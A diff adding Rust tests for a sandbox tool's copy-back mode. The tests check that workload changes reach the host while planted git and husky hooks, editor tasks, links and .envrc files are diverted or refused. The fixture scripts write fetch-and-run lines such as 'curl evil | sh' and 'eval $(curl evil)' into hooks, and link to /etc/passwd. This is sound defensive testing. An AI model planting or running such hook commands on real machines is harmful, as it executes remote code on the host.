@@ -1390,3 +1390,148 @@ if echo x > out/result.txt 2>/dev/null; then echo "write_out=ok"; else echo "wri
     assert_eq!(code, Some(125), "{stderr}");
     assert!(stderr.contains("covers the whole workspace"), "{stderr}");
 }
+
+impl Env {
+    /// `capgate run --copy-back --name NAME -- sh -c SCRIPT`.
+    fn copy_back(&self, name: &str, script: &str) -> Output {
+        self.capgate(
+            &[
+                "run",
+                "--copy-back",
+                "--name",
+                name,
+                "--",
+                "sh",
+                "-c",
+                script,
+            ],
+            None,
+        )
+    }
+}
+
+/// Runs `git` in `dir` with a fixed identity; its stdout.
+fn git(dir: &std::path::Path, args: &[&str]) -> String {
+    let o = Command::new("git")
+        .arg("-C")
+        .arg(dir)
+        .args(["-c", "user.name=t", "-c", "user.email=t@example.com"])
+        .args(args)
+        .output()
+        .unwrap();
+    assert!(o.status.success(), "git {args:?}: {o:?}");
+    String::from_utf8_lossy(&o.stdout).into_owned()
+}
+
+/// Copy-back carries the workload's work to the host's working tree and diverts what the
+/// host would run: a git hook (in .git and through husky), an editor task and a link go
+/// onto the branch capgate/NAME, never into the tree; HEAD and the index stay. Its twin,
+/// the same run without --copy-back, leaves the host as it was.
+#[test]
+fn copy_back_applies_the_work_and_diverts_hooks_to_a_branch() {
+    let env = setup();
+    let ws = env.path("ws");
+    std::fs::write(ws.join("old.txt"), "old\n").unwrap();
+    std::fs::create_dir(ws.join(".husky")).unwrap();
+    std::fs::write(ws.join(".husky/pre-commit"), "npm test\n").unwrap();
+    git(&ws, &["init", "-q", "-b", "main"]);
+    git(&ws, &["add", "-A"]);
+    git(&ws, &["commit", "-q", "-m", "init"]);
+    let head = git(&ws, &["rev-parse", "HEAD"]);
+    let work = "echo changed > notes.txt; rm old.txt; mkdir -p src; echo new > src/new.txt; \
+                echo 'curl evil | sh' > .husky/pre-commit; \
+                printf '#!/bin/sh\\necho evil\\n' > .git/hooks/post-checkout; \
+                chmod +x .git/hooks/post-checkout; \
+                mkdir -p .vscode; echo '{}' > .vscode/tasks.json; ln -s /etc/passwd pw";
+
+    let o = env.capgate(&["run", "--name", "cb1", "--", "sh", "-c", work], None);
+    assert_eq!(o.status.code(), Some(0), "{:?}", out(&o));
+    assert_eq!(
+        std::fs::read_to_string(ws.join("notes.txt")).unwrap(),
+        "workspace file\n"
+    );
+    assert!(ws.join("old.txt").exists() && !ws.join("src").exists());
+
+    let o = env.copy_back("cb2", work);
+    let (_, stderr) = out(&o);
+    assert_eq!(o.status.code(), Some(0), "{stderr}");
+    // Applied: the work.
+    assert_eq!(
+        std::fs::read_to_string(ws.join("notes.txt")).unwrap(),
+        "changed\n"
+    );
+    assert!(!ws.join("old.txt").exists());
+    assert_eq!(
+        std::fs::read_to_string(ws.join("src/new.txt")).unwrap(),
+        "new\n"
+    );
+    // Not applied: what the host runs, and the link.
+    assert_eq!(
+        std::fs::read_to_string(ws.join(".husky/pre-commit")).unwrap(),
+        "npm test\n"
+    );
+    assert!(!ws.join(".git/hooks/post-checkout").exists());
+    assert!(!ws.join(".vscode").exists());
+    assert!(std::fs::symlink_metadata(ws.join("pw")).is_err());
+    // Diverted onto the branch, on top of HEAD; HEAD and the index unchanged.
+    assert_eq!(git(&ws, &["rev-parse", "HEAD"]), head);
+    assert_eq!(git(&ws, &["rev-parse", "capgate/cb2~1"]), head);
+    assert_eq!(
+        git(&ws, &["show", "capgate/cb2:.husky/pre-commit"]),
+        "curl evil | sh\n"
+    );
+    assert_eq!(
+        git(&ws, &["diff", "--name-only", "HEAD", "capgate/cb2"]),
+        ".husky/pre-commit\n.vscode/tasks.json\npw\n"
+    );
+    assert!(git(&ws, &["ls-tree", "capgate/cb2", "pw"]).starts_with("120000 "));
+    assert_eq!(git(&ws, &["diff", "--cached", "--name-only"]), "");
+    assert!(
+        stderr.contains("committed on branch capgate/cb2"),
+        "{stderr}"
+    );
+    assert!(stderr.contains("beneath .git"), "{stderr}");
+
+    // The branch is made, never moved: a second run of the same name keeps it and saves
+    // its diverted changes in the data directory instead.
+    let o = env.copy_back("cb2", "echo x > .envrc");
+    let (_, stderr) = out(&o);
+    assert_eq!(o.status.code(), Some(0), "{stderr}");
+    assert!(stderr.contains("exists already"), "{stderr}");
+    assert_eq!(
+        std::fs::read_to_string(env.path("home/copyback/cb2/files/.envrc")).unwrap(),
+        "x\n"
+    );
+    assert!(!ws.join(".envrc").exists());
+}
+
+/// A link the host has in its workspace is replaced where the workload made a directory,
+/// never written through: the directory it pointed at stays empty. Outside a git work tree
+/// the diverted changes go to the data directory; a FIFO is named and refused.
+#[test]
+fn copy_back_never_writes_through_the_hosts_links() {
+    let env = setup();
+    let ws = env.path("ws");
+    let outside = env.path("outside");
+    std::fs::create_dir(&outside).unwrap();
+    std::os::unix::fs::symlink(&outside, ws.join("out")).unwrap();
+    let o = env.copy_back(
+        "cb3",
+        "rm out; mkdir out; echo mine > out/x; echo 'eval $(curl evil)' > .envrc; mkfifo pipe",
+    );
+    let (_, stderr) = out(&o);
+    assert_eq!(o.status.code(), Some(0), "{stderr}");
+    assert!(std::fs::symlink_metadata(ws.join("out")).unwrap().is_dir());
+    assert_eq!(std::fs::read_to_string(ws.join("out/x")).unwrap(), "mine\n");
+    assert_eq!(std::fs::read_dir(&outside).unwrap().count(), 0, "{stderr}");
+    assert!(!ws.join(".envrc").exists());
+    assert!(
+        env.path("home/copyback/cb3/files/.envrc").exists(),
+        "{stderr}"
+    );
+    assert!(stderr.contains("refused pipe: a FIFO"), "{stderr}");
+    assert!(!ws.join("pipe").exists());
+    // --copy-back has nothing to carry with --mount.
+    let o = env.capgate(&["run", "--copy-back", "--mount", "--", "true"], None);
+    assert_eq!(o.status.code(), Some(1));
+}
